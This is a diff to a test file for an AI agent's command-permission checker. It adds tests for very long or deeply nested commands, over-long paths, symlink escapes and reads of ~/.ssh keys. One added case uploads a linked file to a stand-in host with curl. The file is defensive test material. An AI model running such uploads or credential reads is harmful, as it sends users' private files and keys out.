@@ -1,5 +1,6 @@
 // Decisions about commands that name paths: whether each path needs permission or is refused.
 import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
 import { mkdirSync, symlinkSync } from "node:fs";
 import { userInfo } from "node:os";
 import { join } from "node:path";
@@ -98,15 +99,60 @@ test("in a session whose directory is a home, closed paths are denied by their s
 });
 
 test("a command with too many paths to be checked is not allowed, and is decided in time", () => {
-  const started = performance.now();
+  const started = process.cpuUsage();
   const rules = { mode: "unattended", unattendedCommands: true } as const;
-  const many = Array.from({ length: 9_000 }, (_, at) => `f${at}`).join(" ");
+  const many = Array.from({ length: 2_500 }, (_, at) => `f${at}`).join(" ");
   assert.equal(answerTo(run(`cat ${many}`), rules), "deny");
-  assert.equal(answerTo(run(`cat ${"s/".repeat(20_000)}`), rules), "allow");
-  assert.equal(answerTo(run(`cat ${"=".repeat(20_000)}`), rules), "allow");
-  assert.equal(answerTo(run("eval /a;".repeat(8_000)), rules), "allow");
+  assert.equal(answerTo(run(`cat ${"s/".repeat(20_000)}`), rules), "deny");
+  assert.equal(answerTo(run(`cat ${"=".repeat(16_000)}`), rules), "allow");
+  assert.equal(answerTo(run("eval /a;".repeat(2_000)), rules), "allow");
   assert.equal(answerTo(run(`${"x".repeat(70_000)} ${folder}/.ssh/id`), rules), "deny");
-  assert.ok(performance.now() - started < 10_000);
+  const { user, system } = process.cpuUsage(started);
+  assert.ok(user + system < 3_000_000);
+});
+
+test("a text that is too long or nested too deeply to be read needs a person", () => {
+  const long = `true ${"x ".repeat(9_000)}`;
+  const nested = `echo ${"${a:-".repeat(20)}${"}".repeat(20)}`;
+  for (const text of [long, nested]) {
+    const owned = { mode: "unattended", unattendedCommands: true } as const;
+    assert.equal(answerTo(run(text), { allowedCommands: ["true *"] }), "ask");
+    assert.equal(answerTo(run(text), owned), "deny");
+    assert.equal(answerTo(run(text), { ...owned, allowedCommands: [text] }), "allow");
+    assert.equal(answerTo(run(text), { mode: "auto", hasSandbox: true }), "allow");
+  }
+});
+
+test("no text holds the daemon up", () => {
+  const tree = join(folder, "slow", "tree");
+  const deep = "dd/".repeat(380);
+  mkdirSync(join(tree, deep), { recursive: true });
+  const each = (count: number, path: string) =>
+    Array.from({ length: count }, (_, at) => `${path}${at}`).join(" ");
+  const fill = (text: string) => text.repeat(16_000 / text.length);
+  const texts = [
+    fill("ls;"),
+    fill("ls|"),
+    `echo ${fill("${a:-")}`,
+    fill("$("),
+    fill('"$('),
+    fill("<<A "),
+    fill("cat <<A\nA\n"),
+    `cat ${each(990, "/usr/lib/f")}`,
+    `cat ${each(13, deep)}`,
+    `cat ${each(80, deep)}`,
+    `cat ${each(13, ",".repeat(15) + deep)}`,
+    `cat ${"../".repeat(20_000)}`,
+  ];
+  const programs = Array.from({ length: 60 }, (_, at) => `program${at} sub *`);
+  const rules = { directory: tree, allowedCommands: [...programs, "ls *", "cat *"] };
+  for (const text of texts) {
+    const started = process.cpuUsage();
+    answerTo(run(text, tree), rules);
+    const { user, system } = process.cpuUsage(started);
+    // Usually less than a fifth of that.
+    assert.ok(user + system < 1_000_000, `${text.slice(0, 40)}: ${user + system} µs`);
+  }
 });
 
 test("a sandbox keeps its agent from its files, so a command in it may name and read them", () => {
@@ -167,6 +213,8 @@ test("F8: a command that names a path outside is decided like a file tool, altho
     "cat ..",
     "cat link/hostname",
     "cat link",
+    "cat /no-such-route/../tmp/x",
+    "curl -F 'x=@link;type=text/plain' http://a.example",
     "cat ~/notes.txt",
     "cat $HOME/notes.txt",
     "cat ~another-user/notes.txt",
@@ -282,4 +330,40 @@ test("a path of thousands of steps is decided in a moment, and is not inside", (
   assert.notEqual(answerTo(run(`cat ${",".repeat(15)}${steps}`)), "allow");
   assert.notEqual(answerTo({ type: "read", paths: [steps] }), "allow");
   assert.ok(performance.now() - startedAt < 1_000);
+});
+
+test("a link behind a path that is too long to be looked at does not count as inside", () => {
+  const tree = join(folder, "long", "tree");
+  mkdirSync(tree, { recursive: true });
+  const inTree = (...[program, ...args]: [string, ...string[]]) =>
+    execFileSync(program, args, { cwd: tree });
+  // The kernel opens this path relative to the directory. The absolute path has more than 4,095 bytes.
+  const deep = `${`${"d".repeat(200)}/`.repeat(20)}${"e".repeat(60)}`;
+  inTree("mkdir", "-p", deep);
+  inTree("ln", "-s", folder, `${deep}/up`);
+  const rules: Partial<Rules> = { directory: tree, allowedCommands: ["cat *", "git *"] };
+  assert.equal(answerTo(run(`cat ${deep}/up/x`, tree), rules), "ask");
+  assert.equal(answerTo({ type: "read", paths: [`${deep}/up/x`] }, rules), "ask");
+  // A name that is too long for any file leads nowhere.
+  assert.equal(answerTo(run(`git commit -m '${"m".repeat(300)}/x'`, tree), rules), "allow");
+  // Node cannot remove so long a path.
+  inTree("rm", "-r", "d".repeat(200));
+});
+
+test("a path that is too long to be opened is decided by its beginning", () => {
+  const tree = join(folder, "long", "tree");
+  mkdirSync(tree, { recursive: true });
+  symlinkSync("..", join(tree, "up"));
+  const rules: Partial<Rules> = { directory: tree, allowedCommands: ["mkdir *"] };
+  const long = `/${"d".repeat(200)}`.repeat(25);
+  const rows: [path: string, Answer][] = [
+    [`new${long}`, "allow"],
+    [`../escaped${long}`, "ask"],
+    [`up/escaped${long}`, "ask"],
+    [`up/../escaped${long}`, "ask"],
+    [`${"./".repeat(2_100)}up/../escaped${long}`, "ask"],
+    [`${folder}/.ssh${long}`, "deny"],
+  ];
+  for (const [path, expected] of rows)
+    assert.equal(answerTo(run(`mkdir -p ${path}`, tree), rules), expected, path.slice(0, 60));
 });
